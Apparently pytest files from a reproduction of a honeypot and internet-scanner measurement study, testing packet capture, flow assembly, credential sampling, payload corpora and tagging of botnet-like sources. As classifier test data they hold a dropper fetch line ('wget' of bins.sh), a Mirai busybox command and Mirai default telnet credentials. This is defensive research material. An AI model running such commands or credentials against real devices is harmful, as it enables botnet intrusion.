    def test_banner_only_sessions_carry_no_commands(self):
        rng = np.random.default_rng(0)
        plan = PortPlan(23, "telnet", 1.0, credential_dialect="mirai",
                        banner_only_fraction=1.0,
                        shell_commands=(("uname -a",),))
        intent = plan.build_intent(rng, 1.0, 1, 2)
        assert intent.commands == ()


class TestCommandClassification:
    @pytest.mark.parametrize("command,expected", [
        ("/bin/busybox MIRAI", "botnet-loader"),
        ("wget http://198.18.0.7/bins.sh", "dropper-fetch"),
        ("chmod 777 bins.sh", "execution"),
        ("uname -a", "reconnaissance"),
        ("enable", "shell-escape"),
        ("ls -la", "other"),
    ])
    def test_classes(self, command, expected):
        assert classify_command(command) == expected


class TestCommandSummary:
    def test_summary_on_simulation(self, dataset):
        summary = command_summary(dataset)
        assert summary.sessions_with_login_attempts > 0
        assert summary.sessions_logged_in > 0
        assert 0.0 < summary.login_success_rate < 1.0
        classes = summary.class_counts
        assert "botnet-loader" in classes or "dropper-fetch" in classes
        assert summary.top_commands[0][1] >= summary.top_commands[-1][1]

    def test_empty_dataset(self):
        summary = command_summary([])
        assert summary.login_success_rate == 0.0
        assert summary.total_commands == 0


class TestLiveShell:
    def test_live_telnet_shell_records_commands(self):
        async def scenario():
            pot = LiveHoneypot(services={0: TelnetService(accept_after=2)})
            async with pot:
                client = ReplayClient()
                await client.login_session(
                    pot.bound_ports[0],
                    [("root", "wrong"), ("root", "xc3511")],
                    commands=["enable", "/bin/busybox MIRAI"],
                )
                await pot.stop()
            return pot.events

        events = asyncio.run(scenario())
        assert len(events) == 1
        event = events[0]
        assert event.credentials == (("root", "wrong"), ("root", "xc3511"))
        assert event.commands == ("enable", "/bin/busybox MIRAI")

    def test_live_telnet_never_accepts_by_default(self):
        async def scenario():
            pot = LiveHoneypot(services={0: TelnetService()})
            async with pot:
                client = ReplayClient()
                await client.login_session(pot.bound_ports[0], [("a", "b"), ("c", "d")])
                await pot.stop()
            return pot.events

        events = asyncio.run(scenario())
        assert events[0].commands == ()
