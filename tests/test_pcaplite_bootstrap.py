"""Tests for pcap-lite serialization, bootstrap CIs, and diurnal profiles."""

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.io.pcaplite import (
    MAGIC,
    intents_to_packets,
    packets_to_flows,
    read_packets,
    write_packets,
)
from repro.net.packets import Packet, TcpFlags, Transport
from repro.scanners.base import TemporalProfile
from repro.sim.events import ScanIntent
from repro.stats.bootstrap import BootstrapCI, bootstrap_proportion, overlap_ci


packets_strategy = st.builds(
    Packet,
    timestamp=st.floats(min_value=0, max_value=168, allow_nan=False),
    src_ip=st.integers(min_value=0, max_value=(1 << 32) - 1),
    dst_ip=st.integers(min_value=0, max_value=(1 << 32) - 1),
    src_port=st.integers(min_value=0, max_value=65535),
    dst_port=st.integers(min_value=0, max_value=65535),
    transport=st.sampled_from([Transport.TCP, Transport.UDP]),
    flags=st.sampled_from([TcpFlags.NONE, TcpFlags.SYN, TcpFlags.ACK,
                           TcpFlags.PSH | TcpFlags.ACK, TcpFlags.RST]),
    payload=st.binary(max_size=128),
)


class TestPcapLite:
    def test_round_trip(self, tmp_path):
        packets = [
            Packet(1.0, 1, 2, 40000, 80, flags=TcpFlags.SYN),
            Packet(1.1, 1, 2, 40000, 80, flags=TcpFlags.PSH | TcpFlags.ACK,
                   payload=b"GET / HTTP/1.1\r\n\r\n"),
            Packet(2.0, 3, 4, 5000, 53, transport=Transport.UDP, payload=b"q"),
        ]
        path = tmp_path / "capture.cwp"
        assert write_packets(path, packets) == 3
        assert list(read_packets(path)) == packets

    def test_magic_checked(self, tmp_path):
        path = tmp_path / "bad.cwp"
        path.write_bytes(b"NOTMAGIC" + b"\x00" * 32)
        with pytest.raises(ValueError):
            list(read_packets(path))

    def test_truncation_detected(self, tmp_path):
        path = tmp_path / "trunc.cwp"
        write_packets(path, [Packet(1.0, 1, 2, 1, 2, payload=b"abcdef")])
        data = path.read_bytes()
        path.write_bytes(data[:-3])
        with pytest.raises(ValueError):
            list(read_packets(path))

    def test_empty_capture(self, tmp_path):
        path = tmp_path / "empty.cwp"
        assert write_packets(path, []) == 0
        assert list(read_packets(path)) == []
        assert path.read_bytes() == MAGIC

    @given(st.lists(packets_strategy, max_size=20))
    @settings(max_examples=30)
    def test_round_trip_property(self, packets):
        import tempfile
        from pathlib import Path

        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "p.cwp"
            write_packets(path, packets)
            assert list(read_packets(path)) == packets


class TestIntentExpansion:
    def test_tcp_intent_becomes_handshake(self):
        intent = ScanIntent(timestamp=1.0, src_ip=1, dst_ip=2, dst_port=80,
                            payload=b"GET / HTTP/1.1\r\n\r\n", protocol="http")
        packets = list(intents_to_packets([intent]))
        assert packets[0].is_syn
        assert packets[-1].payload == intent.payload

    def test_udp_intent_single_datagram(self):
        intent = ScanIntent(timestamp=1.0, src_ip=1, dst_ip=2, dst_port=5060,
                            transport=Transport.UDP, payload=b"x", protocol="sip")
        packets = list(intents_to_packets([intent]))
        assert len(packets) == 1
        assert packets[0].transport is Transport.UDP

    def test_expansion_then_assembly_recovers_payloads(self):
        intents = [
            ScanIntent(timestamp=float(i), src_ip=100 + i, dst_ip=2, dst_port=80,
                       payload=f"GET /{i} HTTP/1.1\r\n\r\n".encode(), protocol="http")
            for i in range(5)
        ]
        flows = packets_to_flows(intents_to_packets(intents))
        assert len(flows) == 5
        assert {flow.first_payload for flow in flows} == {intent.payload for intent in intents}

    def test_telescope_assembly_drops_payloads(self):
        intents = [ScanIntent(timestamp=1.0, src_ip=1, dst_ip=2, dst_port=80,
                              payload=b"data", protocol="http")]
        flows = packets_to_flows(intents_to_packets(intents), server_responds=False)
        assert flows[0].first_payload == b""


class TestBootstrap:
    def test_point_estimate(self):
        ci = bootstrap_proportion([True] * 30 + [False] * 70)
        assert ci.estimate == pytest.approx(30.0)
        assert ci.low <= ci.estimate <= ci.high

    def test_interval_narrows_with_sample_size(self):
        rng = np.random.default_rng(0)
        small = bootstrap_proportion([True, False] * 10, rng=rng)
        large = bootstrap_proportion([True, False] * 500, rng=np.random.default_rng(0))
        assert (large.high - large.low) < (small.high - small.low)

    def test_empty(self):
        ci = bootstrap_proportion([])
        assert ci.estimate == 0.0 and ci.low == 0.0 and ci.high == 0.0

    def test_invalid_confidence(self):
        with pytest.raises(ValueError):
            bootstrap_proportion([True], confidence=1.5)

    def test_overlap_ci_matches_point_overlap(self):
        numerator = set(range(30))
        denominator = set(range(100))
        ci = overlap_ci(numerator, denominator, rng=np.random.default_rng(1))
        assert ci.estimate == pytest.approx(30.0)
        assert ci.contains(30.0)

    def test_str(self):
        assert "[" in str(BootstrapCI(50.0, 40.0, 60.0, 0.95, 100))

    def test_overlap_ci_on_table8(self, dataset):
        from repro.analysis.overlap import scanner_overlap_with_ci

        rows = scanner_overlap_with_ci(dataset, ports=(22, 23), resamples=200)
        for row, cloud_ci, _edu_ci in rows:
            assert cloud_ci.contains(row.telescope_cloud_pct)
        (ssh_row, ssh_ci, _), (telnet_row, telnet_ci, _) = rows
        # The SSH vs Telnet gap survives the interval uncertainty.
        assert ssh_ci.high < telnet_ci.low


class TestDiurnalProfile:
    def test_validation(self):
        with pytest.raises(ValueError):
            TemporalProfile(mode="diurnal", diurnal_amplitude=1.5)

    def test_times_within_window(self):
        rng = np.random.default_rng(0)
        profile = TemporalProfile(mode="diurnal")
        times = profile.sample_times(rng, 1000, 168.0)
        assert times.min() >= 0 and times.max() < 168

    def test_peak_hours_busier(self):
        rng = np.random.default_rng(0)
        profile = TemporalProfile(mode="diurnal", diurnal_peak_hour=14.0,
                                  diurnal_amplitude=0.9)
        times = profile.sample_times(rng, 20000, 168.0)
        hour_of_day = times % 24
        peak = np.count_nonzero((hour_of_day >= 12) & (hour_of_day < 16))
        trough = np.count_nonzero((hour_of_day >= 0) & (hour_of_day < 4))
        assert peak > 2 * trough

    def test_zero_amplitude_is_uniformish(self):
        rng = np.random.default_rng(0)
        profile = TemporalProfile(mode="diurnal", diurnal_amplitude=0.0)
        times = profile.sample_times(rng, 20000, 168.0)
        hour_of_day = times % 24
        counts, _ = np.histogram(hour_of_day, bins=24, range=(0, 24))
        assert counts.max() < 1.3 * counts.min()
