"""Tests for credential dialects and the payload corpus."""

import numpy as np
import pytest
from hypothesis import given, strategies as st

from repro.scanners.credentials import (
    CredentialDialect,
    DIALECTS,
    dialect,
    sample_credentials,
)
from repro.scanners.payloads import (
    COMMON_PROBE_PATHS,
    HTTP_CORPUS,
    LZR_PROTOCOLS,
    PATH_PROBE_NAMES,
    HttpPayload,
    http_payload,
    protocol_first_payload,
    render_http,
    strip_ephemeral_headers,
)


class TestDialects:
    def test_known_dialects_exist(self):
        for name in ("global-ssh", "global-telnet", "mirai", "apac-huawei", "apac-dvr"):
            assert name in DIALECTS

    def test_unknown_dialect(self):
        with pytest.raises(KeyError):
            dialect("nope")

    def test_probabilities_normalized(self):
        for vocabulary in DIALECTS.values():
            assert abs(vocabulary.probabilities().sum() - 1.0) < 1e-9

    def test_apac_huawei_contains_paper_credentials(self):
        pairs = dialect("apac-huawei").pairs
        usernames = {username for username, _ in pairs}
        assert "mother" in usernames
        assert "e8ehome" in usernames

    def test_dialect_validation(self):
        with pytest.raises(ValueError):
            CredentialDialect("bad", (("a", "b"),), (1.0, 2.0))
        with pytest.raises(ValueError):
            CredentialDialect("bad", (), ())
        with pytest.raises(ValueError):
            CredentialDialect("bad", (("a", "b"),), (0.0,))


class TestSampleCredentials:
    def test_zero_attempts(self):
        rng = np.random.default_rng(0)
        assert sample_credentials(rng, "global-ssh", 0) == ()

    def test_attempt_count(self):
        rng = np.random.default_rng(0)
        creds = sample_credentials(rng, "global-ssh", 5)
        assert len(creds) == 5

    def test_distinct_never_repeats(self):
        rng = np.random.default_rng(0)
        creds = sample_credentials(rng, "mirai", 12, distinct=True)
        assert len(set(c.as_tuple() for c in creds)) == len(creds)

    def test_distinct_bounded_by_vocabulary(self):
        rng = np.random.default_rng(0)
        creds = sample_credentials(rng, "apac-dvr", 100, distinct=True)
        assert len(creds) == len(dialect("apac-dvr").pairs)

    def test_all_from_dialect(self):
        rng = np.random.default_rng(3)
        vocabulary = set(dialect("mirai").pairs)
        for credential in sample_credentials(rng, "mirai", 50):
            assert credential.as_tuple() in vocabulary

    def test_popular_credentials_dominate(self):
        rng = np.random.default_rng(1)
        creds = sample_credentials(rng, "global-telnet", 2000)
        top = max(set(creds), key=list(creds).count)
        assert top.as_tuple() == ("root", "root")


class TestProtocolPayloads:
    def test_all_protocols_have_payloads(self):
        for protocol in LZR_PROTOCOLS:
            payload = protocol_first_payload(protocol)
            assert isinstance(payload, bytes) and payload

    def test_unknown_protocol(self):
        with pytest.raises(ValueError):
            protocol_first_payload("gopher")

    def test_host_substitution(self):
        payload = protocol_first_payload("http", host="203.0.113.9")
        assert b"203.0.113.9" in payload
        assert b"{host}" not in payload

    def test_binary_payloads_ignore_host(self):
        assert protocol_first_payload("tls", host="1.2.3.4") == protocol_first_payload("tls")

    def test_tls_client_hello_structure(self):
        payload = protocol_first_payload("tls")
        assert payload[0] == 0x16 and payload[1:3] == b"\x03\x01"
        length = int.from_bytes(payload[3:5], "big")
        assert len(payload) == 5 + length

    def test_ntp_is_48_bytes_mode3(self):
        payload = protocol_first_payload("ntp")
        assert len(payload) == 48
        assert payload[0] & 0x07 == 3


class TestHttpCorpus:
    def test_names_unique(self):
        names = [entry.name for entry in HTTP_CORPUS]
        assert len(names) == len(set(names))

    def test_lookup(self):
        assert http_payload("log4shell").malicious
        assert not http_payload("root-get").malicious

    def test_unknown_name(self):
        with pytest.raises(KeyError):
            http_payload("missing")

    def test_render_inserts_host_and_crlf(self):
        payload = http_payload("root-get").render("198.51.100.77")
        assert b"Host: 198.51.100.77\r\n" in payload
        assert b"\n" not in payload.replace(b"\r\n", b"")

    def test_render_content_length(self):
        payload = http_payload("phpunit-rce").render()
        head, _, body = payload.partition(b"\r\n\r\n")
        declared = int(
            [line for line in head.split(b"\r\n") if line.lower().startswith(b"content-length")][0]
            .split(b":")[1]
        )
        assert declared == len(body)

    def test_corpus_has_both_classes(self):
        assert any(entry.malicious for entry in HTTP_CORPUS)
        assert any(not entry.malicious for entry in HTTP_CORPUS)

    def test_path_probes_are_benign_and_distinct(self):
        assert len(PATH_PROBE_NAMES) == len(COMMON_PROBE_PATHS)
        rendered = {http_payload(name).render() for name in PATH_PROBE_NAMES}
        assert len(rendered) == len(PATH_PROBE_NAMES)
        assert all(not http_payload(name).malicious for name in PATH_PROBE_NAMES)

    def test_probe_paths_unique(self):
        assert len(set(COMMON_PROBE_PATHS)) == len(COMMON_PROBE_PATHS)


class TestStripEphemeralHeaders:
    def test_strips_host_date_content_length(self):
        payload = (
            b"GET / HTTP/1.1\r\nHost: a\r\nDate: now\r\nContent-Length: 3\r\nX-K: v\r\n\r\n"
        )
        stripped = strip_ephemeral_headers(payload)
        assert b"Host:" not in stripped
        assert b"Date:" not in stripped
        assert b"Content-Length:" not in stripped
        assert b"X-K: v" in stripped

    def test_same_template_different_hosts_equal_after_strip(self):
        a = http_payload("log4shell").render("1.1.1.1")
        b = http_payload("log4shell").render("2.2.2.2")
        assert a != b
        assert strip_ephemeral_headers(a) == strip_ephemeral_headers(b)

    def test_binary_payload_passthrough(self):
        payload = protocol_first_payload("tls")
        assert strip_ephemeral_headers(payload) == payload

    def test_empty_passthrough(self):
        assert strip_ephemeral_headers(b"") == b""

    @given(st.binary(min_size=1, max_size=64))
    def test_non_alpha_prefix_passthrough(self, blob):
        if not blob[:1].isalpha():
            assert strip_ephemeral_headers(blob) == blob

    def test_case_insensitive_header_match(self):
        payload = b"GET / HTTP/1.1\r\nhost: a\r\nDATE: x\r\n\r\n"
        stripped = strip_ephemeral_headers(payload)
        assert b"host:" not in stripped and b"DATE:" not in stripped
