"""Seed-robustness: the headline findings hold on an independent seed.

The main integration suite uses one shared seed; this module re-derives
the most load-bearing findings on a different (seed, scale) pair so that
nothing in the reproduction hinges on a lucky random stream.
"""

import pytest

from repro.analysis.overlap import scanner_overlap
from repro.analysis.ports import methodology_numbers, protocol_breakdown
from repro.experiments.context import ExperimentConfig, get_context

ALTERNATE = ExperimentConfig(year=2021, scale=0.2, telescope_slash24s=8, seed=987654)


@pytest.fixture(scope="module")
def alternate_dataset():
    return get_context(ALTERNATE).dataset


class TestSeedRobustness:
    def test_ssh_telescope_avoidance(self, alternate_dataset):
        rows = {row.port: row for row in scanner_overlap(alternate_dataset)}
        assert rows[22].telescope_cloud_pct < 40.0
        assert rows[23].telescope_cloud_pct > 80.0
        assert rows[23].telescope_cloud_pct > rows[22].telescope_cloud_pct + 30.0

    def test_edu_overlap_exceeds_cloud(self, alternate_dataset):
        rows = {row.port: row for row in scanner_overlap(alternate_dataset)}
        assert rows[22].telescope_edu_pct > rows[22].telescope_cloud_pct

    def test_unexpected_protocol_share(self, alternate_dataset):
        rows = {row.port: row for row in protocol_breakdown(alternate_dataset)}
        assert 5.0 < rows[80].unexpected_pct < 40.0

    def test_methodology_fractions_in_band(self, alternate_dataset):
        numbers = methodology_numbers(alternate_dataset)
        assert 10.0 < numbers.telnet_non_auth_pct < 65.0
        assert numbers.http80_non_exploit_pct > 50.0

    def test_leaked_services_attract_traffic(self, alternate_dataset):
        from repro.analysis.leak import leak_report

        rows = {(r.service, r.group, r.traffic): r for r in leak_report(alternate_dataset)}
        assert rows[("HTTP/80", "shodan", "all")].fold > 1.5
        assert rows[("SSH/22", "shodan", "malicious")].fold > 1.2
