"""Tests for the packet model, TCP state machine, and flow assembly."""

import pytest
from hypothesis import given, strategies as st

from repro.net.packets import (
    Packet,
    TcpConnection,
    TcpFlags,
    TcpServerState,
    Transport,
    client_handshake_packets,
    syn_packet,
)
from repro.net.flows import FlowAssembler, assemble_flows


def _client_packets(payload=b"hello", src=0x0A000001, dst=0x0A000002, port=80, ts=1.0):
    return list(client_handshake_packets(ts, src, dst, port, payload=payload))


class TestPacket:
    def test_syn_detection(self):
        packet = syn_packet(0.0, 1, 2, 80)
        assert packet.is_syn
        ack = Packet(0.0, 1, 2, 40000, 80, flags=TcpFlags.SYN | TcpFlags.ACK)
        assert not ack.is_syn

    def test_invalid_ports(self):
        with pytest.raises(ValueError):
            Packet(0.0, 1, 2, 70000, 80)
        with pytest.raises(ValueError):
            Packet(0.0, 1, 2, 80, -1)

    def test_flow_key_groups_by_five_tuple(self):
        first = syn_packet(0.0, 1, 2, 80, src_port=1234)
        second = Packet(0.1, 1, 2, 1234, 80, flags=TcpFlags.ACK)
        assert first.flow_key == second.flow_key


class TestTcpConnection:
    def test_full_handshake_captures_first_payload(self):
        connection = TcpConnection(1, 40000, 2, 80)
        for packet in _client_packets(b"GET /"):
            connection.receive(packet)
        assert connection.handshake_completed
        assert connection.first_payload == b"GET /"

    def test_telescope_never_completes(self):
        connection = TcpConnection(1, 40000, 2, 80, responds=False)
        for packet in _client_packets(b"GET /"):
            connection.receive(packet)
        assert connection.state is TcpServerState.SYN_RECEIVED
        assert not connection.handshake_completed
        assert connection.first_payload == b""

    def test_data_before_syn_is_dropped(self):
        connection = TcpConnection(1, 40000, 2, 80)
        connection.receive(Packet(0.0, 1, 2, 40000, 80, flags=TcpFlags.PSH, payload=b"x"))
        assert connection.state is TcpServerState.LISTEN
        assert connection.first_payload == b""

    def test_rst_closes(self):
        connection = TcpConnection(1, 40000, 2, 80)
        connection.receive(syn_packet(0.0, 1, 2, 80))
        connection.receive(Packet(0.1, 1, 2, 40000, 80, flags=TcpFlags.RST))
        assert connection.state is TcpServerState.CLOSED

    def test_first_payload_is_first(self):
        connection = TcpConnection(1, 40000, 2, 80)
        for packet in _client_packets(b"first"):
            connection.receive(packet)
        connection.receive(
            Packet(2.0, 1, 2, 40000, 80, flags=TcpFlags.PSH | TcpFlags.ACK, payload=b"second")
        )
        assert connection.first_payload == b"first"
        assert connection.payload_packets == 2

    def test_fin_closes_after_payload(self):
        connection = TcpConnection(1, 40000, 2, 80)
        for packet in _client_packets(b"data"):
            connection.receive(packet)
        connection.receive(Packet(3.0, 1, 2, 40000, 80, flags=TcpFlags.FIN | TcpFlags.ACK))
        assert connection.state is TcpServerState.CLOSED
        assert connection.handshake_completed

    def test_rejects_udp(self):
        connection = TcpConnection(1, 40000, 2, 80)
        with pytest.raises(ValueError):
            connection.receive(Packet(0.0, 1, 2, 40000, 80, transport=Transport.UDP))

    def test_opened_at_records_syn_time(self):
        connection = TcpConnection(1, 40000, 2, 80)
        connection.receive(syn_packet(42.5, 1, 2, 80))
        assert connection.opened_at == 42.5


class TestClientHandshakePackets:
    def test_sequence_shape(self):
        packets = _client_packets(b"payload")
        assert len(packets) == 3
        assert packets[0].is_syn
        assert packets[1].flags == TcpFlags.ACK
        assert packets[2].payload == b"payload"

    def test_no_payload_two_packets(self):
        packets = _client_packets(b"")
        assert len(packets) == 2

    def test_timestamps_monotonic(self):
        packets = _client_packets(b"x", ts=5.0)
        times = [packet.timestamp for packet in packets]
        assert times == sorted(times)
        assert times[0] == 5.0


class TestFlowAssembler:
    def test_single_tcp_flow(self):
        flows = assemble_flows(_client_packets(b"GET /"))
        assert len(flows) == 1
        flow = flows[0]
        assert flow.handshake_completed
        assert flow.first_payload == b"GET /"
        assert flow.packet_count == 3
        assert flow.has_payload

    def test_telescope_flows_have_no_payload(self):
        flows = assemble_flows(_client_packets(b"GET /"), server_responds=False)
        assert len(flows) == 1
        assert not flows[0].handshake_completed
        assert flows[0].first_payload == b""

    def test_udp_first_datagram_is_payload(self):
        packet = Packet(0.0, 1, 2, 5000, 53, transport=Transport.UDP, payload=b"query")
        flows = assemble_flows([packet])
        assert flows[0].transport is Transport.UDP
        assert flows[0].first_payload == b"query"

    def test_udp_telescope_drops_payload(self):
        packet = Packet(0.0, 1, 2, 5000, 53, transport=Transport.UDP, payload=b"query")
        flows = assemble_flows([packet], server_responds=False)
        assert flows[0].first_payload == b""

    def test_multiple_flows_ordered_by_arrival(self):
        packets = _client_packets(b"a", src=1) + _client_packets(b"b", src=2)
        flows = assemble_flows(packets)
        assert [flow.src_ip for flow in flows] == [1, 2]

    def test_interleaved_flows_separate(self):
        first = _client_packets(b"a", src=1)
        second = _client_packets(b"b", src=2)
        interleaved = [first[0], second[0], first[1], second[1], first[2], second[2]]
        flows = assemble_flows(interleaved)
        payloads = {flow.src_ip: flow.first_payload for flow in flows}
        assert payloads == {1: b"a", 2: b"b"}

    def test_incremental_feed_matches_batch(self):
        packets = _client_packets(b"x") + _client_packets(b"y", src=9)
        assembler = FlowAssembler()
        for packet in packets:
            assembler.feed(packet)
        incremental = list(assembler.finish())
        batch = assemble_flows(packets)
        assert [(f.src_ip, f.first_payload) for f in incremental] == [
            (f.src_ip, f.first_payload) for f in batch
        ]

    @given(st.lists(st.integers(min_value=1, max_value=20), min_size=1, max_size=20, unique=True))
    def test_one_flow_per_distinct_source(self, sources):
        packets = []
        for src in sources:
            packets.extend(_client_packets(payload=b"p", src=src))
        flows = assemble_flows(packets)
        assert len(flows) == len(sources)
        assert all(flow.handshake_completed for flow in flows)
