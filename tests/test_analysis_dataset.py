"""Tests for the AnalysisDataset query layer (on the shared small sim)."""

from collections import Counter

import pytest

from repro.analysis.dataset import SLICES, AnalysisDataset, TrafficSlice
from repro.sim.events import NetworkKind


class TestConstruction:
    def test_from_simulation(self, small_context):
        dataset = AnalysisDataset.from_simulation(small_context.result)
        assert len(dataset.events) == small_context.result.total_events()
        assert dataset.telescope is not None
        assert dataset.leak_experiment is not None

    def test_events_grouped_by_vantage(self, dataset):
        total = sum(len(dataset.events_for(v.vantage_id)) for v in dataset.vantages)
        assert total == len(dataset.events)


class TestSlices:
    def test_slice_definitions(self):
        assert SLICES["ssh22"].port == 22
        assert SLICES["http_all"].port is None
        assert SLICES["http_all"].protocol == "http"

    def test_ssh22_slice_is_port_based(self, dataset):
        events = dataset.slice_events(dataset.events, SLICES["ssh22"])
        assert events
        assert all(event.dst_port == 22 for event in events)

    def test_http80_slice_fingerprint_filtered(self, dataset):
        events = dataset.slice_events(dataset.events, SLICES["http80"])
        assert events
        assert all(event.dst_port == 80 for event in events)
        assert all(dataset.fingerprint_of(event) == "http" for event in events)

    def test_http_all_spans_ports(self, dataset):
        events = dataset.slice_events(dataset.events, SLICES["http_all"])
        ports = {event.dst_port for event in events}
        assert len(ports) > 1

    def test_unexpected_protocols_excluded_from_http_slice(self, dataset):
        port80 = [event for event in dataset.events if event.dst_port == 80]
        http80 = dataset.slice_events(port80, SLICES["http80"])
        assert len(http80) < len(port80)  # the ~15% non-HTTP traffic

    def test_custom_slice(self, dataset):
        tls80 = dataset.slice_events(
            dataset.events, TrafficSlice("TLS/80", port=80, protocol="tls")
        )
        assert tls80
        assert all(dataset.fingerprint_of(event) == "tls" for event in tls80)


class TestCounters:
    def test_as_counter(self, dataset):
        counts = dataset.as_counter(dataset.events[:500])
        assert sum(counts.values()) == 500
        assert all(isinstance(asn, int) for asn in counts)

    def test_username_password_counters(self, dataset):
        ssh = dataset.slice_events(dataset.events, SLICES["ssh22"])
        usernames = dataset.username_counter(ssh)
        passwords = dataset.password_counter(ssh)
        assert usernames and passwords
        assert "root" in usernames
        assert sum(usernames.values()) == sum(passwords.values())

    def test_payload_counter_strips_host(self, dataset):
        http = dataset.slice_events(dataset.events, SLICES["http80"])[:2000]
        counts = dataset.payload_counter(http)
        assert all(b"Host:" not in payload for payload in counts)

    def test_characteristic_dispatch(self, dataset):
        events = dataset.events[:100]
        assert dataset.characteristic_counter(events, "as") == dataset.as_counter(events)
        with pytest.raises(ValueError):
            dataset.characteristic_counter(events, "zodiac")

    def test_malicious_fraction_bounds(self, dataset):
        malicious, total = dataset.malicious_fraction(dataset.events[:2000])
        assert 0 <= malicious <= total == 2000


class TestGrouping:
    def test_neighborhoods(self, dataset):
        neighborhoods = dataset.neighborhoods(networks=["aws"])
        assert ("aws", "AP-SG") in neighborhoods
        assert all(len(group) >= 1 for group in neighborhoods.values())

    def test_vantages_in_filters(self, dataset):
        aws_sg = dataset.vantages_in(network="aws", region="AP-SG")
        assert len(aws_sg) == 4
        edu = dataset.vantages_in(kind=NetworkKind.EDU)
        assert all(v.kind is NetworkKind.EDU for v in edu)

    def test_events_for_group(self, dataset):
        group = dataset.vantages_in(network="aws", region="AP-SG")
        events = dataset.events_for_group(group)
        assert len(events) == sum(len(dataset.events_for(v.vantage_id)) for v in group)


class TestSourceSets:
    def test_sources_on_port(self, dataset):
        cloud = dataset.sources_on_port(22, NetworkKind.CLOUD)
        edu = dataset.sources_on_port(22, NetworkKind.EDU)
        assert cloud and edu

    def test_malicious_subset(self, dataset):
        all_sources = dataset.sources_on_port(22, NetworkKind.CLOUD)
        malicious = dataset.malicious_sources_on_port(22, NetworkKind.CLOUD)
        assert malicious <= all_sources
        assert malicious  # SSH brute-forcers exist

    def test_reputation_oracle_cached(self, dataset):
        assert dataset.reputation_oracle() is dataset.reputation_oracle()
