"""Tests for actor tagging and the Section 8 operator report."""

import numpy as np
import pytest

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.recommendations import operator_report
from repro.analysis.tags import (
    SourceBehavior,
    TAG_RULES,
    tag_distribution,
    tag_sources,
)
from repro.honeypots.base import VantagePoint
from repro.honeypots.honeytrap import HoneytrapStack
from repro.scanners.payloads import http_payload, protocol_first_payload
from repro.sim.clock import WEEK_2021
from repro.sim.events import CapturedEvent, NetworkKind


def vantage(ip=1000):
    return VantagePoint(
        vantage_id="v", network="aws", kind=NetworkKind.CLOUD, region_code="US-CA",
        continent="NA", ips=np.asarray([ip], dtype=np.uint32),
        stack=HoneytrapStack(interactive_ports=frozenset({22, 23})),
    )


def event(src_ip, port, payload=b"", credentials=()):
    return CapturedEvent(
        vantage_id="v", network="aws", network_kind=NetworkKind.CLOUD,
        region="US-CA", timestamp=1.0, src_ip=src_ip, src_asn=4134,
        dst_ip=1000, dst_port=port, handshake=True,
        payload=payload, credentials=tuple(credentials),
    )


class TestTagRules:
    def _tags_for(self, events):
        dataset = AnalysisDataset(events, [vantage()], WEEK_2021)
        return tag_sources(dataset)

    def test_mirai_credentials_tagged(self):
        tags = self._tags_for([
            event(1, 23, payload=protocol_first_payload("telnet"),
                  credentials=[("root", "xc3511"), ("root", "vizxv")]),
        ])
        assert "mirai-like" in tags[1]
        assert "telnet-bruteforcer" in tags[1]

    def test_huawei_variant_tagged(self):
        tags = self._tags_for([
            event(2, 23, payload=protocol_first_payload("telnet"),
                  credentials=[("mother", "fucker"), ("e8ehome", "e8ehome")]),
        ])
        assert "huawei-apac-variant" in tags[2]

    def test_benign_crawler_tagged(self):
        tags = self._tags_for([
            event(3, 80, payload=http_payload("root-get").render()),
        ])
        assert tags[3] == frozenset({"web-crawler"})

    def test_web_exploiter_tagged(self):
        tags = self._tags_for([
            event(4, 80, payload=http_payload("log4shell").render()),
        ])
        assert "web-exploiter" in tags[4]
        assert "web-crawler" not in tags[4]  # malicious sources are not crawlers

    def test_unexpected_protocol_prober(self):
        tags = self._tags_for([
            event(5, 80, payload=protocol_first_payload("tls")),
        ])
        assert "unexpected-protocol-prober" in tags[5]

    def test_wide_scanner(self):
        events = [event(6, port, payload=http_payload("root-get").render())
                  for port in (21, 25, 80, 443, 8080)]
        tags = self._tags_for(events)
        assert "wide-scanner" in tags[6]

    def test_untaggable_source_empty(self):
        tags = self._tags_for([event(7, 12345, payload=b"")])
        assert tags[7] == frozenset()

    def test_rule_names_unique(self):
        names = [name for name, _predicate in TAG_RULES]
        assert len(names) == len(set(names))


class TestTagDistribution:
    def test_counts(self):
        distribution = tag_distribution({
            1: frozenset({"a", "b"}),
            2: frozenset({"a"}),
            3: frozenset(),
        })
        assert distribution == {"a": 2, "b": 1}

    def test_sorted_by_prevalence(self):
        distribution = tag_distribution({
            1: frozenset({"rare"}),
            2: frozenset({"common"}),
            3: frozenset({"common"}),
        })
        assert list(distribution) == ["common", "rare"]


class TestOperatorReport:
    def test_full_report_on_simulation(self, dataset):
        recommendations = operator_report(dataset)
        assert [rec.number for rec in recommendations] == [1, 2, 3, 4, 5]
        by_number = {rec.number: rec for rec in recommendations}
        assert by_number[1].value > 60.0  # telescope blindness to SSH attackers
        assert by_number[2].value > 1.5  # indexed services attract more traffic
        assert 5.0 < by_number[3].value < 40.0  # unexpected protocol share
        assert by_number[5].value > 0.0  # APAC adds diversity over US

    def test_renders(self, dataset):
        for recommendation in operator_report(dataset):
            assert recommendation.title in str(recommendation)

    def test_tags_on_simulation(self, dataset):
        distribution = tag_distribution(tag_sources(dataset))
        assert "mirai-like" in distribution
        assert "huawei-apac-variant" in distribution
        assert "unexpected-protocol-prober" in distribution
