"""Documentation consistency checks and embedded doctests."""

import doctest
from pathlib import Path

import pytest

import repro.detection.engine
import repro.net.addresses
import repro.sim.rng
from repro.experiments import ALL_EXPERIMENTS

REPO_ROOT = Path(__file__).resolve().parent.parent


class TestDoctests:
    @pytest.mark.parametrize(
        "module",
        [repro.net.addresses, repro.sim.rng, repro.detection.engine],
        ids=lambda module: module.__name__,
    )
    def test_module_doctests(self, module):
        results = doctest.testmod(module, verbose=False)
        assert results.failed == 0, f"{results.failed} doctest failures in {module.__name__}"
        assert results.attempted > 0, f"no doctests found in {module.__name__}"


class TestDocumentationConsistency:
    def test_experiments_md_covers_every_experiment(self):
        text = (REPO_ROOT / "EXPERIMENTS.md").read_text(encoding="utf-8")
        for experiment_id in ALL_EXPERIMENTS:
            assert f"{experiment_id} " in text or f"{experiment_id}:" in text or (
                f"{experiment_id} —" in text
            ) or f"### {experiment_id}" in text or f"{experiment_id} /" in text or (
                f"/ {experiment_id}" in text
            ), f"EXPERIMENTS.md does not document {experiment_id}"

    def test_design_md_mentions_every_package(self):
